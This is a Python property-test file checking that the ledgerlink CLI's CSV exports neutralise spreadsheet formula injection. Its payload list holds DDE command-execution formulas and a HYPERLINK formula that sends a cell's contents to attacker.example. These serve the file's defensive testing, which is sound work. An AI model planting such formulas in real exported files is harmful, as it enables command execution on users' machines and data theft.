"""CSV formula injection: every CSV the CLI writes is safe to open in a spreadsheet.

The CLI writes CSV through two renderers: ``ledgerlink.cli.match.render_rows`` (``match export``
and ``conflicts list --format csv``) and ``ledgerlink.revenue.report.render`` (``report mrr`` and
``report movements --format csv``). Whatever text reaches any column, no cell read back from
the file starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, unless the report
cell is a plain number, and removing the neutralising quote gives back the value.
"""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from ledgerlink.cli.conflicts import _LIST_COLUMNS
from ledgerlink.cli.match import ExportFormat, render_rows
from ledgerlink.revenue.report import Table, render

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "-",
    "@",
]
_TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=20)).map("".join),
    st.text(max_size=20),
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.lstrip("-").replace(".", "", 1).isdigit()


@settings(max_examples=200, deadline=None)
@given(
    rows=st.lists(
        st.lists(_TEXT, min_size=len(_LIST_COLUMNS), max_size=len(_LIST_COLUMNS)),
        min_size=1,
        max_size=4,
    )
)
def test_conflicts_and_match_csv_cells_never_start_a_formula(rows: list[list[str]]) -> None:
    """Any value in any column of the conflicts list (and match export) CSV comes out neutralised and recoverable."""
    records = [dict(zip(_LIST_COLUMNS, values, strict=True)) for values in rows]
    parsed = _cells(render_rows(records, _LIST_COLUMNS, ExportFormat.CSV))
    assert parsed[0] == list(_LIST_COLUMNS)
    for values, cells in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(values, cells, strict=True):
            assert not cell.startswith(FORMULA_STARTS), cell
            assert cell == value or (cell == "'" + value and value.startswith(FORMULA_STARTS))


@settings(max_examples=200, deadline=None)
@given(values=st.lists(_TEXT, min_size=3, max_size=3), count=st.integers(-(10**6), 10**6))
def test_report_csv_cells_never_start_a_formula(values: list[str], count: int) -> None:
    """Customer names, notes and any text cell of a report come out neutralised; numbers stay numbers."""
    table = Table(
        title="t",
        columns=("month", "customer", "note", "count"),
        rows=((values[0], values[1], values[2], count),),
    )
    header, row = _cells(render(table, "csv"))
    assert header == ["month", "customer", "note", "count"]
    for value, cell in zip(values, row[:3], strict=True):
        if _is_plain_number(value):
            assert cell == value
        else:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert cell == value or cell == "'" + value
    assert row[3] == str(count)


def test_a_carriage_return_cannot_start_a_new_row_with_a_formula() -> None:
    """A value ``x\\r=1+1`` stays one quoted cell: a reader cannot see a new row beginning with a formula."""
    evil = "x\r=1+1"
    for text in (
        render_rows([dict.fromkeys(_LIST_COLUMNS, evil)], _LIST_COLUMNS, ExportFormat.CSV),
        render(Table(title="t", columns=("customer",), rows=((evil,),)), "csv"),
    ):
        parsed = _cells(text)
        assert len(parsed) == 2, parsed
        assert set(parsed[1]) == {evil}
